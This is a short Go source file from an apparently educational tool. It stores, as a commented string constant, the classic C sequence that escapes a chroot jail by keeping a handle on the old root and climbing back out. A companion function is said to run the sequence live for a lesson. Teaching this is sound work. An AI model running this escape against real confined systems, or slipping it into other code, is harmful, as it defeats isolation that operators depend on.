package initproc

// EscapeSource is the classic chroot escape in C, which runEscape performs
// step by step; the chroot lesson shows it beside the live run.
const EscapeSource = `int fd = open("/", O_RDONLY);   /* a handle on the current root      */
chroot("/tmp");                   /* root is now /tmp; cwd is not in it  */
fchdir(fd);                       /* step back to the old root...        */
for (int i = 0; i < 64; i++)
        chdir("..");              /* ...and climb: no root stops us      */
chroot(".");                      /* make the real / our root            */`
